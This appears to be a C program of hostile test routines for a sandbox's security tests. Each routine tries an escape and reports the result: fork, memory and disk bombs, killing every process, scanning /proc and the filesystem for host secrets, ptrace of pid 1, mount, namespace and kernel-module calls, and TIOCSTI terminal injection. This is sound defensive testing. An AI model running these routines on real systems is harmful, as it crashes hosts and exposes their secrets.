/* Hostile programs for tests/security: each subcommand tries one way out of a sandbox and
 * prints what happened, one `name=result` per line (`result` is `ok` or an errno number,
 * or a count). The Python tests decide what must hold; this program only tries.
 *
 * It must only ever run INSIDE a sandbox (the tests copy it in as PROGRAM): several
 * subcommands are fork bombs, memory bombs and CPU burners. Built statically, non-PIE
 * (the int80 tricks pass 32-bit pointers), by tests/security/conftest.py.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, long r) {
    if (r < 0) printf("%s=%d\n", name, errno);
    else printf("%s=ok\n", name);
    fflush(stdout);
}

static void pause_forever(void) {
    for (;;) pause();
}

/* ---------------------------------------------------------------- resource bombs */

static int forkbomb(void) {
    /* First count how many processes we get (children that just wait), then bomb. */
    long n = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) pause_forever();
        n++;
        if (n > 100000) break;
    }
    printf("forks=%ld\n", n);
    fflush(stdout);
    for (;;) {
        if (fork() == 0) continue;  /* children bomb too */
    }
    return 0;
}

static int membomb(int procs, long mb) {
    for (int i = 0; i < procs; i++) {
        if (fork() == 0) {
            long size = mb << 20;
            char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                           -1, 0);
            if (p == MAP_FAILED) _exit(1);
            for (long off = 0; off < size; off += 4096) p[off] = 1;
            pause_forever();
        }
    }
    while (wait(NULL) > 0) {}
    return 0;
}

static void *spin(void *arg) {
    (void)arg;
    for (volatile unsigned long x = 0;; x++) {}
    return NULL;
}

static int cpuburn(int procs) {
    for (int i = 1; i < procs; i++)
        if (fork() == 0) spin(NULL);
    spin(NULL);
    return 0;
}

static int diskfill(int argc, char **argv) {
    static char buf[1 << 16];
    memset(buf, 'x', sizeof buf);
    long long total = 0;
    for (int i = 0; i < argc; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/fill", argv[i]);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) { printf("%s=open:%d\n", argv[i], errno); continue; }
        long long n = 0;
        ssize_t w;
        while ((w = write(fd, buf, sizeof buf)) > 0) n += w;
        int err = errno;
        close(fd);
        total += n;
        printf("%s=%lld:%d\n", argv[i], n, err);
    }
    printf("total=%lld\n", total);
    return 0;
}

static int flood(void) {
    static char buf[1 << 16];
    memset(buf, 'A', sizeof buf);
    for (;;) {
        if (write(1, buf, sizeof buf) < 0 && errno == EPIPE) break;
        if (write(2, buf, sizeof buf) < 0 && errno == EPIPE) break;
    }
    return 0;
}

static void ignore_everything(void) {
    for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
}

static int immortal(void) {
    ignore_everything();
    setsid();
    if (fork() == 0) {        /* a child that stops itself */
        raise(SIGSTOP);
        pause_forever();
    }
    if (fork() == 0) {        /* a child in its own session, also ignoring everything */
        setsid();
        pause_forever();
    }
    printf("immortal=ready\n");
    fflush(stdout);
    for (;;) sleep(1000);
    return 0;
}

static int daemonize(void) {
    pid_t pid = fork();
    if (pid > 0) { waitpid(pid, NULL, 0); printf("daemon=spawned\n"); return 0; }
    setsid();
    if (fork() > 0) _exit(0);
    ignore_everything();
    for (int fd = 0; fd < 3; fd++) close(fd);
    for (;;) {               /* keep moving to a new pid, as evasive daemons do */
        sleep(1);
        if (fork() > 0) _exit(0);
        setsid();
    }
}

static int rlimits(void) {
    static const struct { int res; const char *name; } all[] = {
        {RLIMIT_CORE, "core"}, {RLIMIT_NOFILE, "nofile"}, {RLIMIT_STACK, "stack"},
        {RLIMIT_MSGQUEUE, "msgqueue"}, {RLIMIT_NPROC, "nproc"}, {RLIMIT_MEMLOCK, "memlock"},
        {RLIMIT_FSIZE, "fsize"}, {RLIMIT_AS, "as"}, {RLIMIT_CPU, "cpu"}, {RLIMIT_RTPRIO, "rtprio"},
        {RLIMIT_NICE, "nice"}, {RLIMIT_SIGPENDING, "sigpending"},
    };
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        struct rlimit r;
        getrlimit(all[i].res, &r);
        if (r.rlim_max == RLIM_INFINITY) { printf("%s=unlimited\n", all[i].name); continue; }
        r.rlim_max = RLIM_INFINITY;
        r.rlim_cur = RLIM_INFINITY;
        report(all[i].name, setrlimit(all[i].res, &r));
        struct rlimit want = {RLIM_INFINITY, RLIM_INFINITY};
        char name[64];
        snprintf(name, sizeof name, "prlimit1_%s", all[i].name);
        report(name, prlimit(1, all[i].res, &want, NULL));
    }
    report("nice", setpriority(PRIO_PROCESS, 0, -20));
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    report("oom_score_adj_lower", fd < 0 ? -1 : write(fd, "-1000", 5));
    return 0;
}

/* ---------------------------------------------------------------- reading the host */

static const char *secret;
static int found;

static void look(const char *where, const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) return;
    static char buf[1 << 16];
    ssize_t n;
    size_t total = 0, keep = 0;
    size_t slen = strlen(secret);
    while (total < (4u << 20) && (n = read(fd, buf + keep, sizeof buf - keep - 1)) > 0) {
        size_t len = keep + n;
        buf[len] = 0;
        if (memmem(buf, len, secret, slen)) {
            printf("FOUND=%s:%s\n", where, path);
            found++;
            break;
        }
        keep = len < slen ? len : slen;
        memmove(buf, buf + len - keep, keep);
        total += n;
    }
    close(fd);
}

static void walk(const char *dir, int depth) {
    if (depth > 12) return;
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        if (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev")) continue;
        struct stat st;
        if (lstat(path, &st) < 0) continue;
        if (S_ISDIR(st.st_mode)) walk(path, depth + 1);
        else if (S_ISREG(st.st_mode)) look("fs", path);
    }
    closedir(d);
}

static int readhost(const char *target, const char *needle) {
    secret = needle;
    char path[4096];
    look("direct", target);
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        const char *links[] = {"root", "cwd"};
        for (int i = 0; i < 2; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s%s", e->d_name, links[i], target);
            look(links[i], path);
        }
        const char *files[] = {"environ", "cmdline", "mem", "maps", "mountinfo"};
        for (int i = 0; i < 5; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, files[i]);
            look(files[i], path);
        }
        char fddir[64];
        snprintf(fddir, sizeof fddir, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(fddir);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            if (f->d_name[0] == '.') continue;
            snprintf(path, sizeof path, "%s/%s", fddir, f->d_name);
            look("fd", path);
            char sub[4200];
            snprintf(sub, sizeof sub, "%s%s", path, target);  /* a directory descriptor */
            look("fd-dir", sub);
        }
        if (fds) closedir(fds);
    }
    if (proc) closedir(proc);
    for (char **env = __environ; *env; env++)
        if (strstr(*env, needle)) { printf("FOUND=env:%s\n", *env); found++; }
    walk("/", 0);
    printf("found=%d\n", found);
    return 0;
}

static int procscan(const char *needle) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int pids = 0;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        pids++;
        char path[300], buf[4096];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n > 0 && memmem(buf, n, needle, strlen(needle))) printf("FOUND=%s\n", e->d_name);
    }
    printf("pids=%d\n", pids);
    return 0;
}

/* ---------------------------------------------------------------- network */

static int net(int port, const char *abstract_name, const char *unix_path) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.1", &a4.sin_addr);
    report("tcp4", connect(s, (struct sockaddr *)&a4, sizeof a4));
    close(s);
    s = socket(AF_INET6, SOCK_STREAM, 0);
    struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET6, "::1", &a6.sin6_addr);
    report("tcp6", s < 0 ? -1 : connect(s, (struct sockaddr *)&a6, sizeof a6));
    close(s);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    report("udp4", sendto(s, "hi", 2, 0, (struct sockaddr *)&a4, sizeof a4));
    close(s);
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    un.sun_path[0] = 0;
    strncpy(un.sun_path + 1, abstract_name, sizeof un.sun_path - 2);
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    report("abstract", connect(s, (struct sockaddr *)&un,
                               offsetof(struct sockaddr_un, sun_path) + 1 + strlen(abstract_name)));
    close(s);
    memset(&un, 0, sizeof un);
    un.sun_family = AF_UNIX;
    strncpy(un.sun_path, unix_path, sizeof un.sun_path - 1);
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    report("unix", connect(s, (struct sockaddr *)&un, sizeof un));
    close(s);
    report("raw4", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    report("raw6", socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6));
    report("rawtcp", socket(AF_INET, SOCK_RAW, IPPROTO_TCP));
    report("packet", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
    report("packet_dgram", socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)));
    /* lo down: needs CAP_NET_ADMIN */
    s = socket(AF_INET, SOCK_DGRAM, 0);
    struct { char name[16]; short flags; char pad[22]; } ifr = {"lo", 0, {0}};
    ioctl(s, 0x8913, &ifr);
    ifr.flags &= ~1;
    report("ifdown", ioctl(s, 0x8914, &ifr));
    close(s);
    return 0;
}

/* ---------------------------------------------------------------- processes */

static int procmem(void) {
    report("mem1_rw", open("/proc/1/mem", O_RDWR));
    report("mem1_r", open("/proc/1/mem", O_RDONLY));
    report("exe1_w", open("/proc/1/exe", O_WRONLY));
    report("exe1_r", open("/proc/1/exe", O_RDONLY));
    int p = open("/proc/1/exe", O_PATH);
    report("exe1_path", p);
    if (p >= 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", p);
        report("exe1_reopen_w", open(path, O_WRONLY));
    }
    report("root1", open("/proc/1/root/", O_RDONLY | O_DIRECTORY));
    report("environ1", open("/proc/1/environ", O_RDONLY));
    report("ns1", open("/proc/1/ns/mnt", O_RDONLY));
    char buf[16];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    report("vm_readv1", process_vm_readv(1, &local, 1, &remote, 1, 0));
    report("ptrace_attach1", syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, 1, 0, 0));
    report("ptrace_seize1", syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, 1, 0, 0));
    report("ptrace_traceme", syscall(SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0));
    pid_t child = fork();
    if (child == 0) pause_forever();
    report("ptrace_child", syscall(SYS_ptrace, 16, child, 0, 0));
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    report("self_exe_w", open("/proc/self/exe", O_WRONLY));
    report("pidfd_getfd", syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0));
    return 0;
}

static int signals(int host_pid) {
    report("kill1_kill", kill(1, SIGKILL));
    report("kill1_term", kill(1, SIGTERM));
    report("kill1_stop", kill(1, SIGSTOP));
    report("killppid", kill(getppid(), SIGKILL));
    int pfd = syscall(SYS_pidfd_open, 1, 0);
    report("pidfd_open1", pfd);
    if (pfd >= 0) report("pidfd_kill1", syscall(SYS_pidfd_send_signal, pfd, SIGKILL, NULL, 0));
    report("kill_host_pid", kill(host_pid, SIGKILL));
    /* every pid this namespace could have */
    int hits = 0;
    for (int pid = 2; pid < 100000; pid++)
        if (pid != getpid() && kill(pid, SIGKILL) == 0) hits++;
    printf("killed=%d\n", hits);
    report("kill_all", kill(-1, SIGKILL));
    usleep(100000);
    printf("survived=1\n");
    fflush(stdout);
    return 0;
}

/* ---------------------------------------------------------------- kernel knobs */

static int writable_count;

static void try_write_tree(const char *dir, int depth) {
    if (depth > 10) return;
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        if (depth == 0 && !strcmp(dir, "/proc") &&
            ((e->d_name[0] >= '0' && e->d_name[0] <= '9') || !strcmp(e->d_name, "self") ||
             !strcmp(e->d_name, "thread-self")))
            continue;  /* the job's own processes: writable by design */
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(path, &st) < 0) continue;
        if (S_ISDIR(st.st_mode)) { try_write_tree(path, depth + 1); continue; }
        if (!S_ISREG(st.st_mode)) continue;
        int fd = open(path, O_WRONLY | O_NONBLOCK);
        if (fd >= 0) { printf("WRITABLE=%s\n", path); writable_count++; close(fd); }
    }
    closedir(d);
}

static int kernelknobs(void) {
    try_write_tree("/proc", 0);
    try_write_tree("/sys", 0);
    printf("writable=%d\n", writable_count);
    report("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
    report("core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
    report("uid_map", open("/proc/self/uid_map", O_WRONLY) >= 0 ?
           write(open("/proc/self/uid_map", O_WRONLY), "0 0 1\n", 6) : -1);
    report("setgroups", open("/proc/self/setgroups", O_WRONLY));
    return 0;
}

static int kernellogs(void) {
    char buf[256];
    report("syslog_read", syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf));
    report("syslog_clear", syscall(SYS_syslog, 5 /* CLEAR */, NULL, 0));
    report("dev_kmsg", open("/dev/kmsg", O_RDONLY));
    report("proc_kmsg", open("/proc/kmsg", O_RDONLY));
    int fd = open("/proc/kcore", O_RDONLY);
    report("kcore_read", fd < 0 ? -1 : read(fd, buf, sizeof buf) > 0 ? 0 : (errno = ENODATA, -1));
    fd = open("/proc/kallsyms", O_RDONLY);
    long n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    if (n > 0) { buf[n] = 0; printf("kallsyms_first=%.16s\n", buf); }
    report("kallsyms", n > 0 ? 0 : (errno = ENODATA, -1));
    return 0;
}

/* ---------------------------------------------------------------- the mount family etc. */

static int mounts(void) {
    report("mount_tmpfs", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL));
    report("mount_proc", syscall(SYS_mount, "proc", "/tmp", "proc", 0, NULL));
    report("mount_sysfs", syscall(SYS_mount, "sysfs", "/tmp", "sysfs", 0, NULL));
    report("mount_cgroup", syscall(SYS_mount, "cgroup", "/tmp", "cgroup", 0, "memory"));
    report("mount_cgroup2", syscall(SYS_mount, "cgroup2", "/tmp", "cgroup2", 0, NULL));
    report("mount_bind", syscall(SYS_mount, "/", "/tmp", NULL, MS_BIND | MS_REC, NULL));
    report("remount_rw", syscall(SYS_mount, NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("umount_proc", syscall(SYS_umount2, "/proc", MNT_DETACH));
    report("umount_root", syscall(SYS_umount2, "/", MNT_DETACH));
    report("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    report("chroot", syscall(SYS_chroot, "/tmp"));
    report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    report("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    report("fsconfig", syscall(SYS_fsconfig, 3, 6 /* CMD_CREATE */, NULL, NULL, 0));
    report("fsmount", syscall(SYS_fsmount, 3, 0, 0));
    report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* CLONE */));
    report("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp", 0));
    report("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, NULL, 0));
    return 0;
}

static int namespaces(void) {
    static const struct { int flag; const char *name; } ns[] = {
        {CLONE_NEWUSER, "user"}, {CLONE_NEWNS, "mnt"}, {CLONE_NEWPID, "pid"},
        {CLONE_NEWNET, "net"}, {CLONE_NEWIPC, "ipc"}, {CLONE_NEWUTS, "uts"},
        {CLONE_NEWCGROUP, "cgroup"}, {0x80 /* CLONE_NEWTIME */, "time"},
    };
    char name[64];
    for (size_t i = 0; i < sizeof ns / sizeof *ns; i++) {
        snprintf(name, sizeof name, "unshare_%s", ns[i].name);
        report(name, syscall(SYS_unshare, ns[i].flag));
        snprintf(name, sizeof name, "clone_%s", ns[i].name);
        long pid = syscall(SYS_clone, ns[i].flag | SIGCHLD, 0, 0, 0, 0);
        if (pid == 0) _exit(0);
        if (pid > 0) waitpid(pid, NULL, 0);
        report(name, pid);
    }
    report("clone3", syscall(SYS_clone3, NULL, 0));
    int fd = open("/proc/self/ns/net", O_RDONLY);
    report("setns_self", fd < 0 ? -1 : syscall(SYS_setns, fd, 0));
    report("setns_init", syscall(SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0));
    return 0;
}

static int kernelapis(void) {
    report("keyctl_join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "x"));
    report("add_key", syscall(SYS_add_key, "user", "k", "v", 1, KEY_SPEC_PROCESS_KEYRING));
    report("request_key", syscall(SYS_request_key, "user", "k", NULL, 0));
    struct bpf_insn prog[] = {{.code = 0xb7, .dst_reg = 0, .imm = 0}, {.code = 0x95}};
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insn_cnt = 2;
    attr.insns = (uintptr_t)prog;
    attr.license = (uintptr_t)"GPL";
    report("bpf_prog_load", syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr));
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.type = PERF_TYPE_SOFTWARE;
    pe.size = sizeof pe;
    pe.config = PERF_COUNT_SW_CPU_CLOCK;
    report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
    report("userfaultfd", syscall(SYS_userfaultfd, 0));
    report("userfaultfd_dev", open("/dev/userfaultfd", O_RDWR));
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    report("io_uring_setup", syscall(SYS_io_uring_setup, 4, &params));
    struct { unsigned int bytes; int type; unsigned char h[128]; } fh = {128, 0, {0}};
    int mount_id;
    report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &fh, &mount_id, 0));
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY));
    report("init_module", syscall(SYS_init_module, "", 0, ""));
    report("finit_module", syscall(SYS_finit_module, 0, "", 0));
    report("delete_module", syscall(SYS_delete_module, "loop", 0));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    report("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0));
    report("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* CAD_OFF */, NULL));
    report("personality_rie", syscall(SYS_personality, READ_IMPLIES_EXEC));
    report("personality_norandom", syscall(SYS_personality, ADDR_NO_RANDOMIZE));
    struct timeval tv;
    gettimeofday(&tv, NULL);
    report("settimeofday", syscall(SYS_settimeofday, &tv, NULL));
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    report("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &ts));
    struct timex tx = {.modes = ADJ_FREQUENCY, .freq = 0};
    report("adjtimex", syscall(SYS_adjtimex, &tx));
    report("swapon", syscall(SYS_swapon, "/work/swap", 0));
    report("acct", syscall(SYS_acct, "/work/acct"));
    report("iopl", syscall(SYS_iopl, 3));
    report("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    report("sethostname", syscall(SYS_sethostname, "pwned", 5));
    report("setdomainname", syscall(SYS_setdomainname, "pwned", 5));
    return 0;
}

/* ---------------------------------------------------------------- terminals */

static int tiocsti(void) {
    const char *payload = "id>/tmp/pwned\n";
    char name[64];
    for (int fd = 0; fd < 10; fd++) {
        snprintf(name, sizeof name, "fd%d", fd);
        int r = 0;
        for (const char *c = payload; *c && r == 0; c++) r = ioctl(fd, TIOCSTI, c);
        report(name, r);
    }
    int tty = open("/dev/tty", O_RDWR);
    report("dev_tty", tty);
    DIR *d = opendir("/dev/pts");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[320];
        snprintf(path, sizeof path, "/dev/pts/%s", e->d_name);
        int fd = open(path, O_RDWR | O_NOCTTY);
        snprintf(name, sizeof name, "pts%s", e->d_name);
        report(name, fd < 0 ? -1 : ioctl(fd, TIOCSTI, payload));
    }
    report("tioclinux", ioctl(0, TIOCLINUX, "\x02"));
    return 0;
}

/* ---------------------------------------------------------------- files and nodes */

static int nodes(void) {
    const char *dirs[] = {"/work", "/tmp", "/dev/shm"};
    char path[256], name[64];
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/mem", dirs[i]);
        snprintf(name, sizeof name, "mknod_mem_%d", i);
        report(name, mknod(path, S_IFCHR | 0666, makedev(1, 1)));
        snprintf(path, sizeof path, "%s/sda", dirs[i]);
        snprintf(name, sizeof name, "mknod_sda_%d", i);
        report(name, mknod(path, S_IFBLK | 0666, makedev(8, 0)));
    }
    int fd = open("/work/capfile", O_WRONLY | O_CREAT, 0755);
    close(fd);
    /* VFS_CAP_REVISION_2 with CAP_SYS_ADMIN permitted+effective */
    unsigned int cap[5] = {0x02000001, 1u << 21, 0, 0, 0};
    report("setcap", setxattr("/work/capfile", "security.capability", cap, sizeof cap, 0));
    report("trusted_xattr", setxattr("/work/capfile", "trusted.overlay.opaque", "y", 1, 0));
    report("chown_root", chown("/work/capfile", 0, 0));
    return 0;
}

static int fdscan(void) {
    int n = 0;
    for (int fd = 3; fd < 65536; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0) { printf("OPEN=%d\n", fd); n++; }
    }
    printf("open=%d\n", n);
    return 0;
}

static int sysv(void) {
    int shm = shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0666);
    report("shmget", shm);
    report("shmget_key", shmget(0x5b0c5ec, 1 << 20, IPC_CREAT | 0666));
    report("semget", semget(0x5b0c5ec, 4, IPC_CREAT | 0666));
    report("msgget", msgget(0x5b0c5ec, IPC_CREAT | 0666));
    report("shm_existing", shmget(0x5b0c5ed, 0, 0));
    return 0;
}

#if defined(__x86_64__)
static long int80(long nr, long a, long b) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
    return ret;
}
#endif

/* Needles come reversed on the command line, so that the job's own argv never holds them. */
static char *unreverse(const char *arg) {
    char *s = strdup(arg);  /* not in place: /proc/self/cmdline shows argv's memory */
    for (size_t i = 0, j = strlen(s); j-- > i; i++) { char c = s[i]; s[i] = s[j]; s[j] = c; }
    return s;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1];
    if (!strcmp(cmd, "forkbomb")) return forkbomb();
    if (!strcmp(cmd, "membomb") && argc > 3) return membomb(atoi(argv[2]), atol(argv[3]));
    if (!strcmp(cmd, "cpuburn") && argc > 2) return cpuburn(atoi(argv[2]));
    if (!strcmp(cmd, "diskfill")) return diskfill(argc - 2, argv + 2);
    if (!strcmp(cmd, "flood")) return flood();
    if (!strcmp(cmd, "immortal")) return immortal();
    if (!strcmp(cmd, "daemon")) return daemonize();
    if (!strcmp(cmd, "rlimits")) return rlimits();
    if (!strcmp(cmd, "readhost") && argc > 3) return readhost(argv[2], unreverse(argv[3]));
    if (!strcmp(cmd, "procscan") && argc > 2) return procscan(unreverse(argv[2]));
    if (!strcmp(cmd, "net") && argc > 4) return net(atoi(argv[2]), argv[3], argv[4]);
    if (!strcmp(cmd, "procmem")) return procmem();
    if (!strcmp(cmd, "signals") && argc > 2) return signals(atoi(argv[2]));
    if (!strcmp(cmd, "kernelknobs")) return kernelknobs();
    if (!strcmp(cmd, "kernellogs")) return kernellogs();
    if (!strcmp(cmd, "mounts")) return mounts();
    if (!strcmp(cmd, "namespaces")) return namespaces();
    if (!strcmp(cmd, "kernelapis")) return kernelapis();
    if (!strcmp(cmd, "tiocsti")) return tiocsti();
    if (!strcmp(cmd, "nodes")) return nodes();
    if (!strcmp(cmd, "fdscan")) return fdscan();
    if (!strcmp(cmd, "sysv")) return sysv();
#if defined(__x86_64__)
    if (!strcmp(cmd, "int80-mkdir") && argc > 2) {   /* i386 mkdir is 39 */
        long r = int80(39, (long)argv[2], 0755);
        printf("int80_mkdir=%ld\n", r);
        return 0;
    }
    if (!strcmp(cmd, "x32-mkdir") && argc > 2) {     /* x32 mkdir is 83 | 0x40000000 */
        long r = syscall(83 | 0x40000000L, argv[2], 0755);
        report("x32_mkdir", r);
        return 0;
    }
#endif
    return 2;
}
